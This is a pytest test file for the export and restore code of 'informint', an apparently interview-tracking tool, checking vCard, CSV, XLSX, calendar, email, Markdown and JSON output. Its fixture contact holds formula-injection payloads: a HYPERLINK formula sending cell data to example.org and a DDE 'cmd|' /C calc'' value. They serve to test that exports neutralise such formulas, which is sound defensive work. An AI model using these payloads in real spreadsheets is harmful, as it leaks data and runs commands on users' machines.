"""Files out, each read back by a real parser; and the way back from the one that holds all."""

import csv
import email
import email.policy
import io
import json
import stat
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import icalendar
import openpyxl
import pytest
from commands import Run

from informint.contacts import read_contacts
from informint.errors import BadInput, IllegalStep
from informint.exports import ENDINGS, export, find_person
from informint.exports.tables import PEOPLE
from informint.journal import Journal, open_journal
from informint.journal.events import (
    AgendaSaved,
    Drafted,
    NotesSaved,
    PersonFound,
    Replied,
    Scheduled,
    Sent,
    Shortlisted,
    Tagged,
)
from informint.model import Message, MessageKind, Person, Preparation, TalkNotes

NOW = datetime(2025, 3, 3, 12, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://example.org/?x="&A1,"see")'
EVIL = Person(
    id="e1",
    name='Eve; O\'Neill, "Zoë" 周',
    given_name="Eve",
    family_name="O'Neill",
    company=FORMULA,
    position="@SUM(1+1)*cmd|' /C calc'!A0",
    email="eve@example.org",
    profile_url="https://www.linkedin.com/in/eve-1",
    connected_on=date(2024, 1, 5),
    groups=("Mixed choir", "+1"),
)
ANN = Person(id="a1", name="Ann Lee", given_name="Ann", family_name="Lee", company="Quill\x0b")
BODY = "Dear Eve,\n\n# no heading\n1. <b>no list</b>\n\nThank you"


@pytest.fixture
def own(tmp_path: Path) -> Journal:
    journal = open_journal(tmp_path / "data", clock=lambda: NOW)
    journal.begin()
    journal.record(PersonFound(EVIL), PersonFound(ANN))
    journal.record(
        Drafted(person="e1", message=Message(subject="A talk, perhaps", body=BODY)),
        Sent(person="e1"),
        Replied(person="e1", answer="yes"),
        Scheduled(person="e1", when=NOW + timedelta(days=3)),
        Shortlisted(person="e1"),
        Tagged(person="e1", tag="lab"),
        AgendaSaved(person="e1", prepared=Preparation(questions=("What is a usual day?",))),
        NotesSaved(person="e1", notes=TalkNotes(answers={"Why?": "Because"})),
    )
    journal.record(
        Drafted(person="a1", slot="note", message=Message(kind=MessageKind.FOLLOWUP, body="Hello"))
    )
    return journal


def test_a_card_is_read_back_as_it_was(own: Journal) -> None:
    data = export(own, "x.vcf")

    assert max(map(len, data.split(b"\r\n"))) <= 75
    found = read_contacts(("x.vcf", data))
    assert found.files[0].notes == ()
    ann, eve = found.people
    assert (eve.given_name, eve.family_name, eve.company) == ("Eve", "O'Neill", FORMULA)
    assert (eve.position, eve.email) == (EVIL.position, EVIL.email)
    assert (eve.profile_url, eve.groups) == (EVIL.profile_url, EVIL.groups)
    assert ann.name == "Ann Lee"
    assert export(own, "x.vcf", person="a1").count(b"BEGIN:VCARD") == 1


def test_a_table_holds_no_formula(own: Journal) -> None:
    data = export(own, "x.csv")

    assert data.startswith(b"\xef\xbb\xbf")
    ann, eve = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert tuple(eve) == PEOPLE
    assert (eve["Company"], eve["Position"]) == (f"'{FORMULA}", f"'{EVIL.position}")
    assert eve["Name"] == EVIL.name
    assert (eve["Stage"], eve["Talk"]) == ("scheduled", "2025-03-06 12:00 UTC")
    assert (eve["Shortlisted"], eve["Tags"], eve["Connected on"]) == ("yes", "lab", "2024-01-05")
    assert ann["Stage"] == "found"
    for row in (ann, eve):
        assert not any(cell.lstrip()[:1] in set("=+-@") for cell in row.values() if cell)


def test_a_talk_is_told_in_utc_whatever_clock_it_was_agreed_by(own: Journal) -> None:
    agreed = datetime(2025, 3, 6, 1, 30, tzinfo=timezone(timedelta(hours=2)))
    own.record(Scheduled(person="e1", when=agreed))
    for ending in ("csv", "md"):
        assert b"2025-03-05 23:30 UTC" in export(own, f"x.{ending}")


def test_a_table_is_read_by_an_import_again(own: Journal) -> None:
    found = read_contacts(("x.csv", export(own, "x.csv")))

    assert [p.name for p in found.people] == ["Ann Lee", "Eve O'Neill"]
    assert found.people[1].connected_on == EVIL.connected_on
    assert found.people[1].profile_url == EVIL.profile_url
    assert (found.people[1].company, found.people[1].position) == (FORMULA, EVIL.position)


def test_a_spreadsheet_holds_texts_and_dates_only(own: Journal) -> None:
    pytest.importorskip("xlsxwriter")
    book = openpyxl.load_workbook(io.BytesIO(export(own, "x.xlsx")))

    people, steps = book["People"], book["Steps"]
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "d", "n"}
    assert not any(cell.data_type == "n" and cell.value is not None for cell in cells)
    assert all(cell.hyperlink is None for cell in cells)
    eve = {title.value: cell.value for title, cell in zip(people[1], people[3], strict=True)}
    assert (eve["Company"], eve["Position"]) == (FORMULA, EVIL.position)
    assert eve["Connected on"].date() == EVIL.connected_on
    assert [row[2].value for row in steps.iter_rows(min_row=3)] == [
        "found", "drafted", "sent", "replied", "scheduled",
    ]  # fmt: skip


def test_a_calendar_holds_talks_and_reminders_once(own: Journal) -> None:
    calendar = icalendar.Calendar.from_ical(export(own, "x.ics"))

    entries = list(calendar.walk("VEVENT"))
    talks = [e for e in entries if e["uid"].endswith("@talk.informint.example.org")]
    assert [e.decoded("dtstart") for e in talks] == [NOW + timedelta(days=3)]
    assert len({e["uid"] for e in entries}) == len(entries)
    again = icalendar.Calendar.from_ical(export(own, "x.ics"))
    assert [e["uid"] for e in again.walk("VEVENT")] == [e["uid"] for e in entries]
    of_ann = icalendar.Calendar.from_ical(export(own, "x.ics", person="a1"))
    assert not [e for e in of_ann.walk("VEVENT") if e["uid"] == talks[0]["uid"]]


def test_a_draft_is_a_mail(own: Journal) -> None:
    mail = email.message_from_bytes(export(own, "x.eml", person="e1"), policy=email.policy.default)
    assert mail["To"].addresses[0].addr_spec == "eve@example.org"
    assert mail["Subject"] == "A talk, perhaps"
    assert mail.get_content().replace("\r\n", "\n").rstrip() == BODY
    own.record(Drafted(person="e1", message=Message(body="Thanks"), slot="thank_you"))
    with pytest.raises(BadInput, match="request, thank_you: say which with --draft"):
        export(own, "x.eml", person="e1")
    assert b"Thanks" in export(own, "x.eml", person="e1", draft="thank_you")


def test_what_is_written_is_no_markup_in_markdown(own: Journal) -> None:
    told = export(own, "x.md").decode()

    headings = [line for line in told.splitlines() if line.startswith("#")]
    assert headings[0] == "# My informational interviews"
    assert "> \\# no heading" in told
    assert "<b>" not in told.replace("\\<b\\>", "")
    assert "1. What is a usual day?" in told
    assert "- Why?: Because" in told
    assert told.count("## ") >= 2
    assert "Ann Lee" not in export(own, "x.md", person="e1").decode()


def test_everything_comes_back_from_json(own: Journal, tmp_path: Path) -> None:
    with Journal.restore(export(own, "x.json"), tmp_path / "other") as restored:
        assert restored.state.says_the_same_as(own.state)
    one = json.loads(export(own, "x.json", person="e1"))
    assert {e["event"]["kind"] for e in one["recorded"]} >= {"person_found", "sent", "notes_saved"}


@pytest.mark.parametrize(
    ("name", "person", "error", "words"),
    [
        (
            "x.xls",
            None,
            BadInput,
            r"'\.xls' is no file that is written here; did you mean '\.xlsx'",
        ),
        ("x", None, BadInput, r"the ending is one of \.json"),
        ("x.eml", None, BadInput, "say whose draft with --person"),
        ("x.eml", "nobody", IllegalStep, "no such person"),
        *((f"x{ending}", "nobody", IllegalStep, "no such person") for ending in (".csv", ".json")),
    ],
)
def test_what_cannot_be_written_is_told(
    name: str, person: str | None, error: type[Exception], words: str, own: Journal
) -> None:
    with pytest.raises(error, match=words):
        export(own, name, person=person)


def test_a_person_is_found_by_id_name_or_address(own: Journal) -> None:
    own.record(PersonFound(Person(id="a2", name="Dr. Ann Lee")))

    assert find_person(own.state, "e1") == "e1"
    assert find_person(own.state, "EVE@example.org") == "e1"
    for wanted, words in (("Lee, Ann", "2 people have this name.*a1, a2"), ("Bob", "nobody")):
        with pytest.raises(BadInput, match=words) as error:
            find_person(own.state, wanted)
        assert "Lee" not in str(error.value)


def test_the_commands_write_and_restore(own: Journal, run: Run, tmp_path: Path) -> None:
    own.close()
    for ending in ENDINGS:
        who = ("--person", "eve@example.org") if ending == ".eml" else ()
        code, out, err = run("export", f"out{ending}", *who)
        assert (code, err) == (0, "")
        assert out.startswith(f"out{ending}: ")
        assert stat.S_IMODE(Path(f"out{ending}").stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.glob("*out*")) == sorted(f"out{e}" for e in ENDINGS)

    code, out, err = run("restore", "out.json", "--data", str(tmp_path / "second"))
    assert (code, err) == (0, "")
    assert out == "Restored: 2 people, 2 with drafts\n"
    with open_journal(tmp_path / "second") as restored:
        assert restored.state.drafts["a1"]["note"].body == "Hello"


def test_restoring_never_replaces_anything(own: Journal, run: Run, tmp_path: Path) -> None:
    before = own.export_json()
    own.close()
    run("export", "out.json")
    code, out, err = run("restore", "out.json")
    assert (code, out) == (2, "")
    assert "There is a journal already" in err
    with open_journal(tmp_path / "data") as journal:
        assert journal.export_json() == before


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (None, "cannot be read"),
        (b"", "not an export of a journal"),
        (b"\xff\xfe\0", "not an export of a journal"),
        (b"[]", "not an export of a journal"),
        (b'{"informint_journal": 999}', "newer informint"),
        (b'{"informint_journal": 3}', "not an export of a journal"),
        (b'{"informint_journal": 3, "entries": [{"id": 0}]}', "not an export of a journal"),
        (b'{"informint_journal": 3, "entries": [' + b'{"id": 1,' * 2000, "not an export"),
    ],
)
def test_a_broken_export_is_refused(content: bytes | None, words: str, run: Run) -> None:
    if content is not None:
        Path("x.json").write_bytes(content)
    code, _, err = run("restore", "x.json")

    assert code == 2
    assert words in err
    assert "Traceback" not in err
    assert not (Path("data") / "journal.sqlite3").exists()


def test_the_sample_replaces_no_file(run: Run) -> None:
    assert run("export", "x.vcf")[0] == 0
    code, _, err = run("export", "x.vcf")
    assert code == 2
    assert "the sample does not replace it" in err
